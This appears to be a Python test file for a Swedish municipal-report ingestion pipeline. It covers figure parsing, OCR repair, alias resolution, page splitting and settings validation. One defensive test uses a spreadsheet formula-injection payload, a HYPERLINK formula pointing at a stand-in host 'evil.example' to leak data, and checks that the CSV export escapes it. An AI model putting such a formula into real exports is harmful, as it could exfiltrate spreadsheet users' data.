"""Stages on their own: Swedish figures, OCR repair, aliases, page splitting."""

from __future__ import annotations

import pytest

from core.entities import Registry
from core.numbers import format_value, parse_figures
from ingest.normalize import OcrRepairer, normalize
from ingest.parse import split_text_pages


@pytest.mark.parametrize(("text", "value", "approx"), [
    ("1 680 158 SEK", 1_680_158, False), ("ca 8,3 miljoner kr", 8_300_000, True),
    ("cirka 22,5 miljoner kronor", 22_500_000, True), ("25 mkr", 25_000_000, True),
    ("5900 000 kronor", 5_900_000, False), ("ett 30-tal", 30, True),
])
def test_swedish_figures(text, value, approx):
    fig = parse_figures(text)[0]
    assert fig.value == pytest.approx(value) and fig.approximate is approx


def test_years_and_case_numbers_are_not_figures():
    assert parse_figures("STK-2025-405 den 2025-04-24") == []


def test_format_value():
    assert format_value(1_680_158, "SEK") == "1 680 158 kr"
    assert format_value(8_300_000, "SEK", approximate=True) == "ca 8,3 miljoner kr"


@pytest.fixture(scope="module")
def registry() -> Registry:
    return Registry.load()


@pytest.mark.parametrize(("word", "repaired"), [
    ("nimnderna", "nämnderna"), ("Miljonamnden", "Miljönämnden"), ("f6r", "för"), ("Malmé", "Malmö"),
    ("kommundévergripande", "kommunövergripande"), ("6ver", "över"), ("projekt", "projekt"), ("Erasmus", "Erasmus"),
])
def test_ocr_repair(registry, word, repaired):
    assert OcrRepairer(registry.domain_words()).repair(word) == repaired


def test_normalized_spans_map_back_to_the_source():
    source = "Miljonamnden 25 projekt 10 404 000 kronor\nsom 1 staden"
    norm = normalize(source, ocr=True)
    assert "Miljönämnden" in norm.text and "som i staden" in norm.text
    start = norm.text.index("Miljönämnden")
    a, b = norm.span_to_original(start, start + len("Miljönämnden 25 projekt"))
    assert source[a:b] == "Miljonamnden 25 projekt"


@pytest.mark.parametrize(("alias", "entity"), [
    ("ASF", "asf"), ("miljonamnden", "mn"), ("Arbetsmarknads och socialförvaltningen", "asf"), ("FGK", "fgk"),
    ("HVOF", "hvof"), ("Gymnasie- och vuxenskoleförvaltningen", "gvf"), ("tekniska förvaltningen", "fgk"),
])
def test_organisation_aliases(registry, alias, entity):
    assert registry.resolve_org(alias) == entity


@pytest.mark.parametrize(("alias", "fund"), [
    ("React-EU", "esf"), ("socialfonden", "esf"), ("ERDF", "eruf"), ("Horizon 2020", "horisont"),
    ("Erasmus+", "erasmus"), ("ISF", "ifs"), ("AMIF", "amif"), ("Creative Europe", "creative_europe"),
])
def test_fund_aliases(registry, alias, fund):
    assert registry.resolve_fund(alias) == fund


def test_nämnd_and_förvaltning_are_paired(registry):
    assert registry.unit_of("asf") == "asn"
    assert registry.unit_of("mf") == "mn"


def test_text_pages_from_single_space_lines_and_footers():
    text = "Sida ett\nrad\nrad\nrad\n Sida två\nrad\nrad\nRapport 2022, Malmö stad 21(36)\nSida tre\n"
    pages = split_text_pages(text)
    assert [p.number for p in pages] == [1, 2, 3]
    assert pages[1].label == "21(36)"
    assert text[pages[2].start:].startswith("Sida tre")


def test_every_setting_is_documented_and_bad_values_fail():
    from pydantic import ValidationError

    from core.settings import Settings

    for name, field in Settings.model_fields.items():
        assert field.description and len(field.description) > 20, name
    with pytest.raises(ValidationError):
        Settings(chunk_size=500, chunk_overlap=400)
    with pytest.raises(ValidationError):
        Settings(embedding_backend="sentence-transformers")
    with pytest.raises(ValidationError):
        Settings(unknown_setting=1)  # type: ignore[call-arg]


def test_exports_never_start_a_cell_like_a_formula():
    import csv as csv_module
    import io

    from service.facts_export import FACT_COLUMNS, to_csv, to_excel_csv

    row = dict.fromkeys(FACT_COLUMNS, "")
    row["quote"] = '=HYPERLINK("http://evil.example/?leak","klicka") Kulturförvaltningen fick 66 000 000 kr'
    row["title"] = "+SUM(1+1) falsk.md"
    row["value"] = 66_000_000.0
    plain = next(csv_module.DictReader(io.StringIO(to_csv([row]))))
    assert plain["quote"].startswith("'=HYPERLINK") and plain["title"].startswith("'+SUM")
    assert plain["value"] == "66000000.0"  # numbers stay numbers
    excel = next(csv_module.DictReader(io.StringIO(to_excel_csv([row]).lstrip("\ufeff")), delimiter=";"))
    assert excel["quote"].startswith("'=") and excel["value"] == "66000000"
